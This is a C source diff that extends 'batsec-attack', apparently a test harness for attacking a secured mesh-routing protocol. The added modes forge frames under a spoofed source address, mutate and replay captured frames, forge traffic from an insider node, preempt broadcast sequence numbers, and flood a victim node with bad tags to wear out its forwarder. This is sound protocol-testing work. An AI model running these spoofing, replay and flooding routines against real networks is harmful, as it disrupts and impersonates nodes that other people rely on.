+	v = atk_peer_find(a, a->victim);
+	vmac = v->mac;
+	cm = atk_copy_mac(a);
+	dst = atk_set(a->target) ? a->target : a->victim;
+	memset(echo, 0, sizeof(echo));
+	echo[0] = 1;
+	while (atk_running(a, secs)) {
+		struct d2_sealed s = { .type = WIRE_T_UNICAST, .dst = dst,
+		    .src = a->copy, .src_epoch = atk_epoch_of(a, a->copy),
+		    .dst_epoch = atk_epoch_of(a, dst),
+		    .e2e_ctr = (uint64_t)time(NULL) << 22 | k,
+		    .hop_ctr = a->sniff_ctr + 1 + k };
+		const uint8_t *to = vmac;
+
+		n = 0;
+		switch (k++ % 9) {
+		case 0:		/* random key id */
+			il = atk_inner(a, in, a->inner_dst, "o2u");
+			s.pt = in;
+			s.pt_len = il;
+			n = d2_sealed(f, sizeof(f), &s);
+			break;
+		case 1:		/* -C's key id with -V, a guessed tag */
+			il = atk_inner(a, in, a->inner_dst, "o2u");
+			s.pt = in;
+			s.pt_len = il;
+			s.keyid = a->sniffed ? a->sniff_keyid : NULL;
+			n = d2_sealed(f, sizeof(f), &s);
+			break;
+		case 2:		/* ECHO to the destination */
+		case 3:		/* ECHO to the victim itself */
+			s.type = WIRE_T_ECHO;
+			s.dst = k % 9 == 3 ? dst : a->victim;
+			s.pt = echo;
+			s.pt_len = sizeof(echo);
+			s.keyid = a->sniffed ? a->sniff_keyid : NULL;
+			n = d2_sealed(f, sizeof(f), &s);
+			break;
+		case 4:		/* BCAST of -C, random signature and tag */
+			il = atk_inner(a, in, NULL, "o2b");
+			ids[0] = a->sniffed ? a->sniff_keyid : NULL;
+			n = d2_bcast(f, sizeof(f), &(struct d2_bcast){
+			    .hop_ctr = s.hop_ctr, .orig = a->copy,
+			    .epoch = s.src_epoch, .seqno = bs_random_uniform(
+			    1u << 30), .inner = in, .inner_len = il,
+			    .ntags = 1, .keyid = ids });
+			to = NULL;
+			break;
+		case 5:
+			il = atk_inner(a, in, a->inner_dst, "o1u");
+			n = d1_frame(f, sizeof(f), WIRE_T_UNICAST, dst,
+			    a->copy, 0, in, il);
+			break;
+		case 6:
+			il = atk_inner(a, in, NULL, "o1b");
+			n = d1_frame(f, sizeof(f), WIRE_T_BCAST, NULL,
+			    a->copy, bs_random_uniform(1u << 30), in, il);
+			to = NULL;
+			break;
+		case 7:
+			n = d1_frame(f, sizeof(f), WIRE_T_ECHO, dst, a->copy,
+			    k, NULL, 0);
+			break;
+		default:	/* keep watching */
+			atk_listen(a, 1, atk_watch);
+			break;
+		}
+		if (n > 0)
+			atk_send_to(a, to, cm, f, n);
+	}
+	atk_listen(a, 1000, atk_watch);
+	atk_report(a);
+}
+
+/* Each field of a captured data frame: [off, off + len). */
+struct atk_field {
+	size_t off, len;
+	int inner;	/* not under the hop tag: the end-to-end part */
+};
+
+/* The fields of a data frame of len bytes; their number. */
+static unsigned
+atk_fields(const uint8_t *p, size_t len, struct atk_field *fl, unsigned max)
+{
+	static const struct atk_field sealed[] = { { 0, 1, 0 }, { 1, 1, 0 },
+	    { 2, 1, 0 }, { 3, 1, 0 }, { 4, 4, 0 }, { 8, 8, 0 }, { 16, 8, 0 },
+	    { 24, 6, 0 }, { 30, 6, 0 }, { 36, 4, 0 }, { 40, 4, 0 }, { 44, 8, 0 } };
+	static const struct atk_field bfix[] = { { 0, 1, 0 }, { 1, 1, 0 },
+	    { 2, 1, 0 }, { 3, 1, 0 }, { 4, 8, 0 } };
+	static const struct atk_field bsgn[] = { { 0, 1, 0 }, { 1, 1, 0 },
+	    { 2, 2, 0 }, { 4, 6, 0 }, { 10, 4, 0 }, { 14, 4, 0 }, { 18, 2, 0 } };
+	unsigned n = 0, i, t;
+	size_t s;
+
+	if (len < D2_OVERHEAD || max < 32)
+		return 0;
+	if (p[0] != WIRE_T_BCAST) {
+		for (i = 0; i < sizeof(sealed) / sizeof(sealed[0]); i++)
+			fl[n++] = sealed[i];
+		fl[n++] = (struct atk_field){ D2_CT_OFF,
+		    len - D2_OVERHEAD, 1 };
+		fl[n++] = (struct atk_field){ len - D2_AEAD_LEN, D2_AEAD_LEN,
+		    0 };
+		return n;
+	}
+	t = p[3];
+	if (t < 1 || t > D2_BC_MAX_TAGS)
+		return 0;
+	s = D2_BC_FIXED + (size_t)D2_BC_TAG_LEN * t;
+	if (len < s + D2_BC_SGN_LEN + BS_SIG_LEN)
+		return 0;
+	for (i = 0; i < sizeof(bfix) / sizeof(bfix[0]); i++)
+		fl[n++] = bfix[i];
+	for (i = 0; i < t && n + 2 < max; i++) {
+		fl[n++] = (struct atk_field){ D2_BC_FIXED + D2_BC_TAG_LEN * i,
+		    BS_KEYID_LEN, 0 };
+		fl[n++] = (struct atk_field){ D2_BC_FIXED + D2_BC_TAG_LEN * i +
+		    BS_KEYID_LEN, D2_HTAG_LEN, 0 };
+	}
+	for (i = 0; i < sizeof(bsgn) / sizeof(bsgn[0]) && n < max; i++)
+		fl[n++] = (struct atk_field){ s + bsgn[i].off, bsgn[i].len, 0 };
+	s += D2_BC_SGN_LEN;
+	if (bs_get16(p + s - D2_BC_SGN_LEN + 2) > len - s - BS_SIG_LEN ||
+	    n + 2 > max)
+		return n;
+	fl[n++] = (struct atk_field){ s, bs_get16(p + s - D2_BC_SGN_LEN + 2),
+	    1 };
+	fl[n++] = (struct atk_field){ s + fl[n - 1].len, BS_SIG_LEN, 0 };
+	return n;
+}
+
+/*
+ * Each frame of FILE with one bit flipped in each field, at its first and
+ * at its last byte; then each cut short by one byte.  None is sent as it
+ * was captured.  -x hop: only the fields under the hop tag (a frame that
+ * passes the hop check uses up its hop counter, so a control can send
+ * the originals afterwards only then); -x e2e: only the ciphertext or
+ * the broadcast's inner frame, which the hop tag does not cover.
+ */
+static void
+mode_mutate(struct atk *a, const char *file)
+{
+	uint8_t f[14 + 9200], g[14 + 9200];
+	struct atk_field fl[40];
+	unsigned n, i, j, bit = 0, frames = 0;
+	size_t l, pos;
+	FILE *fp;
+
+	if ((fp = fopen(file, "rb")) == NULL)
+		atk_die(file);
+	while ((l = cap_read(fp, f, sizeof(f))) > 0) {
+		n = atk_fields(f + 14, l - 14, fl, 40);
+		if (n == 0)
+			continue;
+		frames++;
+		for (i = 0; i < n; i++) {
+			for (j = 0; j < 2; j++) {
+				if (fl[i].len == 0 || (j == 1 && fl[i].len == 1))
+					continue;
+				if ((fl[i].inner && strcmp(a->kinds, "hop") == 0) ||
+				    (!fl[i].inner && strcmp(a->kinds, "e2e") == 0))
+					continue;
+				memcpy(g, f, l);
+				pos = 14 + fl[i].off + (j == 0 ? 0 : fl[i].len - 1);
+				g[pos] ^= (uint8_t)(1u << (bit++ % 8));
+				atk_send_to(a, g, g + 6, g + 14, l - 14);
+			}
+		}
+		if (strcmp(a->kinds, "e2e") != 0)
+			atk_send_to(a, f, f + 6, f + 14, l - 15);
+	}
+	fclose(fp);
+	printf("frames %u\n", frames);
+}
+
+/* Our own OGM, so the mesh knows our key and epoch. */
+static void
+atk_originate(struct atk *a)
+{
+	uint8_t blocks[1][1200], seed[BS_CHAIN_LEN], elem[BS_CHAIN_LEN];
+	struct wire_ogm_mut m;
+	size_t blen;
+
+	bs_random(seed, sizeof(seed));
+	blen = atk_block(&a->id, a->epoch, ++a->ogm_seqno, seed, NULL, 0,
+	    blocks[0], sizeof(blocks[0]));
+	bs_chain_iter(elem, seed, 0);
+	memset(&m, 0, sizeof(m));
+	m.ttl = 50;
+	m.tq = 255;
+	m.prev_sender = a->addr;
+	m.chain = elem;
+	if (blen > 0)
+		atk_ogm_send(a, &m, blocks, &blen, 1);
+}
+
+/* HELLO every 250 ms and an OGM every 500 ms, while listening ms. */
+static void
+atk_node(struct atk *a, int ms,
+    void (*fn)(struct atk *, const uint8_t *, const uint8_t *, size_t))
+{
+	static uint64_t last_hello, last_ogm;
+	uint64_t now = atk_now_ns();
+
+	if (now - last_hello >= 250000000u) {
+		atk_hello(a);
+		last_hello = now;
+	}
+	if (now - last_ogm >= 500000000u) {
+		atk_originate(a);
+		last_ogm = now;
+	}
+	atk_listen(a, ms, fn);
+}
+
+/* The hop keys of every neighbour we share a key with (at most 8). */
+static unsigned
+atk_all_tags(struct atk *a, const uint8_t **hop, const uint8_t **ids)
+{
+	unsigned n = 0;
+	int i;
+
+	for (i = 0; i < a->n_peer && n < D2_BC_MAX_TAGS; i++) {
+		if (!a->peer[i].keyed || a->peer[i].epoch == 0)
+			continue;
+		hop[n] = a->peer[i].hop;
+		ids[n++] = a->peer[i].hopid;
+	}
+	return n;
+}
+
+/*
+ * One sealed frame from src (our address, or -C's) to dst with correct
+ * hop tags toward -V, sealed under the key of our pair with dst (the
+ * only one we have): for our own source the right key.
+ */
+static void
+atk_insider_sealed(struct atk *a, uint8_t type, const uint8_t *src,
+    const uint8_t *dst, const uint8_t *pt, size_t pt_len)
+{
+	uint8_t f[D2_OVERHEAD + 14 + 64 + 256], link[BS_LINKKEY_LEN];
+	uint8_t k[D2_E2E_KEY_LEN];
+	struct atk_peer *v = atk_peer_find(a, a->victim);
+	struct atk_orig *d = atk_orig_find(a, dst), *so;
+	const uint8_t *spk = a->id.pk;
+	uint32_t sep = a->epoch;
+	size_t n;
+
+	if (v == NULL || !v->keyed || d == NULL ||
+	    bs_link_key(link, &a->id, d->pk) != 0)
+		return;
+	if (src != a->addr) {
+		if ((so = atk_orig_find(a, src)) == NULL)
+			return;
+		spk = so->pk;
+		sep = so->epoch;
+	}
+	d2_e2e_key(k, link, spk, d->pk, sep, d->epoch);
+	/* A forged source's counter far above the real one's, so that the
+	 * frame is refused by the AEAD and not as a replay. */
+	n = d2_sealed(f, sizeof(f), &(struct d2_sealed){ .type = type,
+	    .dst = dst, .src = src, .src_epoch = sep, .dst_epoch = d->epoch,
+	    .e2e_ctr = (src != a->addr ? (uint64_t)1 << 62 : 0) + ++a->e2e_ctr, .pt = pt, .pt_len = pt_len,
+	    .e2e_key = k, .hop = v->hop, .keyid = v->hopid,
+	    .hop_ctr = ++a->hop_ctr });
+	if (n > 0)
+		atk_send_to(a, v->mac, NULL, f, n);
+}
+
+/* A BCAST of orig, signed by us, tagged for every neighbour. */
+static void
+atk_insider_bcast(struct atk *a, const uint8_t *orig, uint32_t epoch,
+    uint32_t seqno, const char *kind)
+{
+	uint8_t f[D2_BC_MAX_TAGS * D2_BC_TAG_LEN + 200], in[14 + 64];
+	const uint8_t *hop[D2_BC_MAX_TAGS], *ids[D2_BC_MAX_TAGS];
+	unsigned nt = atk_all_tags(a, hop, ids);
+	size_t il, n;
+
+	if (nt == 0)
+		return;
+	il = atk_inner(a, in, NULL, kind);
+	n = d2_bcast(f, sizeof(f), &(struct d2_bcast){
+	    .hop_ctr = ++a->hop_ctr, .orig = orig, .epoch = epoch,
+	    .seqno = seqno, .inner = in, .inner_len = il, .signer = &a->id,
+	    .ntags = nt, .hop = hop, .keyid = ids });
+	if (n > 0)
+		atk_send_to(a, NULL, NULL, f, n);
+}
+
+/* An admitted node: its own frames (controls), and -C's forged. */
+static void
+mode_insider(struct atk *a, int secs)
+{
+	uint8_t in[14 + 64], echo[D2_ECHO_BODY];
+	const uint8_t *dst = atk_set(a->target) ? a->target : a->victim;
+	int own = strstr(a->kinds, "own") != NULL;
+	int forge = strstr(a->kinds, "forge") != NULL;
+	uint32_t bseq = 0;
+	unsigned k = 0;
+
+	if (atk_aim(a, 8, 1) != 0)
+		exit(1);
+	while (atk_running(a, 6))	/* the mesh learns our OGMs */
+		atk_node(a, 100, atk_watch);
+	while (atk_running(a, secs)) {
+		atk_node(a, 100, atk_watch);
+		k++;
+		memset(echo, 0, sizeof(echo));
+		echo[0] = 1;
+		bs_put16(echo + 2, 0xa7c4);
+		bs_put16(echo + 4, (uint16_t)k);
+		if (own) {
+			atk_insider_sealed(a, WIRE_T_UNICAST, a->addr, dst, in,
+			    atk_inner(a, in, a->inner_dst, "iu"));
+			atk_insider_sealed(a, WIRE_T_ECHO, a->addr, dst, echo,
+			    sizeof(echo));
+			atk_insider_bcast(a, a->addr, a->epoch, ++bseq, "ib");
+		}
+		if (forge && atk_set(a->copy)) {
+			atk_insider_sealed(a, WIRE_T_UNICAST, a->copy, dst, in,
+			    atk_inner(a, in, a->inner_dst, "fu"));
+			atk_insider_sealed(a, WIRE_T_ECHO, a->copy, dst, echo,
+			    sizeof(echo));
+			atk_insider_bcast(a, a->copy, atk_epoch_of(a, a->copy),
+			    bs_random_uniform(1u << 30), "fb");
+		}
+	}
+	atk_listen(a, 1000, atk_watch);
+	atk_report(a);
+}
+
+static uint32_t bseq_last;
+static uint64_t bseq_sent;
+
+/* On each new BCAST of -C: its next -n sequence numbers, first. */
+static void
+bseq_one(struct atk *a, const uint8_t *src, const uint8_t *p, size_t len)
+{
+	const uint8_t *orig;
+	uint32_t epoch, seqno, i;
+
+	(void)src;
+	if (d2_bcast_peek(p, len, &orig, &epoch, &seqno) != 0 ||
+	    memcmp(orig, a->copy, BS_ADDR_LEN) != 0 || seqno == bseq_last)
+		return;
+	bseq_last = seqno;
+	for (i = 1; i <= a->count; i++, bseq_sent++)
+		atk_insider_bcast(a, a->copy, epoch, seqno + i, "bs");
+}
+
+static void
+mode_bseq(struct atk *a, int secs)
+{
+	if (atk_aim(a, 8, 1) != 0)
+		exit(1);
+	while (atk_running(a, secs))
+		atk_node(a, 100, bseq_one);
+	printf("preempted %llu\n", (unsigned long long)bseq_sent);
+}
+
+/* Bad tags at line rate, as -C to -V, to wear -V's forwarder out. */
+static void
+mode_dflood(struct atk *a, int secs)
+{
+	uint8_t f[D2_OVERHEAD + 14 + 64 + 256], in[14 + 64];
+	const uint8_t *cm, *vmac, *dst;
+	uint64_t t0;
+	size_t il, n;
+	unsigned k = 0;
+
+	if (atk_aim(a, 8, 0) != 0)
+		exit(1);
+	for (k = 0; k < 12 && !a->sniffed; k++)	/* a real key id costs */
+		atk_listen(a, 250, atk_watch);	/* the victim a SipHash */
+	k = 0;
+	vmac = atk_peer_find(a, a->victim)->mac;
+	cm = atk_copy_mac(a);
+	dst = atk_set(a->target) ? a->target : a->victim;
+	il = atk_inner(a, in, a->inner_dst, "fl");
+	t0 = atk_now_ns();
+	a->start_ns = t0;
+	a->sent = 0;
+	while (atk_running(a, secs)) {
+		n = d2_sealed(f, sizeof(f), &(struct d2_sealed){
+		    .type = WIRE_T_UNICAST, .dst = dst, .src = a->copy,
+		    .src_epoch = 1, .dst_epoch = 1, .e2e_ctr = k,
+		    .pt = in, .pt_len = il,
+		    .keyid = a->sniffed ? a->sniff_keyid : NULL,
+		    .hop_ctr = a->sniff_ctr + 1 + k++ });
+		if (n > 0)
+			atk_send_to(a, vmac, cm, f, n);
+	}
+	printf("rate %llu frames/s\n", (unsigned long long)(a->sent *
+	    1000000000u / (atk_now_ns() - t0 + 1)));
+	atk_report(a);
+}
+
 static void
 usage(void)
 {
 	fprintf(stderr, "usage: batsec-attack -i IFACE -m forge|sybil|capture|"
-	    "replay|inflate|malformed|claim [-t SECS] [-r RATE] [-f FILE] "
-	    "[-c MAC,...] [-e ETHERTYPE]\n");
+	    "replay|inflate|malformed|claim|outsider|mutate|insider|bseq|"
+	    "dflood [-t SECS] [-r RATE] [-f FILE] [-c MAC,...] [-e ETHERTYPE] "
+	    "[-K KEYFILE] [-V ADDR] [-C ADDR] [-T ADDR] [-M MAC] [-w TOKEN] "
+	    "[-y data] [-S MAC] [-x KINDS] [-n N]\n");
 	exit(2);
+}
+
+static void
+atk_mac_arg(uint8_t out[6], const char *s)
+{
+	unsigned x[6];
+	int i;
+
+	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &x[0], &x[1], &x[2], &x[3], &x[4],
+	    &x[5]) != 6)
+		usage();
+	for (i = 0; i < 6; i++) {
+		if (x[i] > 0xff)
+			usage();
+		out[i] = (uint8_t)x[i];
+	}
+}
+
+/* Our key: -K's file (an admitted node), or a fresh one. */
+static void
+atk_key(struct atk *a, const char *keyfile)
+{
+	char err[256];
+
+	if (keyfile == NULL) {
+		atk_identity(a);
+		return;
+	}
+	if (bs_seckey_load(keyfile, &a->id, err, sizeof(err)) != 0) {
+		fprintf(stderr, "batsec-attack: %s\n", err);
+		exit(1);
+	}
+	bs_mesh_addr(a->addr, a->id.pk);
+	a->epoch = (uint32_t)time(NULL);
 }
 
 int
 main(int argc, char **argv)
 {
 	const char *ifname = NULL, *mode = NULL, *file = NULL, *clients = NULL;
+	const char *keyfile = NULL;
 	struct atk a;
 	int c, secs = 10;
 
 	memset(&a, 0, sizeof(a));
 	a.etype = 0x88b5;
-	while ((c = getopt(argc, argv, "i:m:t:r:f:c:e:")) != -1) {
+	a.token = "batsec-attack";
+	a.kinds = "own,forge";
+	a.count = 32;
+	memcpy(a.inner_dst, atk_bcast_mac, 6);
+	while ((c = getopt(argc, argv, "i:m:t:r:f:c:e:K:V:C:T:M:w:y:S:x:n:")) !=
+	    -1) {
 		switch (c) {
 		case 'i': ifname = optarg; break;
 		case 'm': mode = optarg; break;
@@ -646,13 +1667,26 @@ main(int argc, char **argv)
 		case 'f': file = optarg; break;
 		case 'c': clients = optarg; break;
 		case 'e': a.etype = (uint16_t)strtoul(optarg, NULL, 0); break;
+		case 'K': keyfile = optarg; break;
+		case 'V': atk_mac_arg(a.victim, optarg); break;
+		case 'C': atk_mac_arg(a.copy, optarg); break;
+		case 'T': atk_mac_arg(a.target, optarg); break;
+		case 'M': atk_mac_arg(a.inner_dst, optarg); break;
+		case 'w': a.token = optarg; break;
+		case 'y': a.data_only = strcmp(optarg, "data") == 0; break;
+		case 'S':
+			atk_mac_arg(a.only_src, optarg);
+			a.has_only_src = 1;
+			break;
+		case 'x': a.kinds = optarg; break;
+		case 'n': a.count = (unsigned)strtoul(optarg, NULL, 0); break;
 		default: usage();
 		}
 	}
 	if (ifname == NULL || mode == NULL || secs <= 0 || bs_crypto_init() != 0)
 		usage();
 	atk_open(&a, ifname);
-	atk_identity(&a);
+	atk_key(&a, keyfile);
 	a.start_ns = atk_now_ns();
 	if (strcmp(mode, "forge") == 0)
 		mode_forge(&a, secs);
@@ -668,6 +1702,17 @@ main(int argc, char **argv)
 		mode_malformed(&a, secs);
 	else if (strcmp(mode, "claim") == 0)
 		mode_claim(&a, secs, clients);
+	else if (strcmp(mode, "outsider") == 0 && atk_set(a.victim))
+		mode_outsider(&a, secs);
+	else if (strcmp(mode, "mutate") == 0 && file != NULL)
+		mode_mutate(&a, file);
+	else if (strcmp(mode, "insider") == 0 && atk_set(a.victim))
+		mode_insider(&a, secs);
+	else if (strcmp(mode, "bseq") == 0 && atk_set(a.victim) &&
+	    atk_set(a.copy))
+		mode_bseq(&a, secs);
+	else if (strcmp(mode, "dflood") == 0 && atk_set(a.victim))
+		mode_dflood(&a, secs);
 	else
 		usage();
 	printf("sent %llu frames\n", (unsigned long long)a.sent);
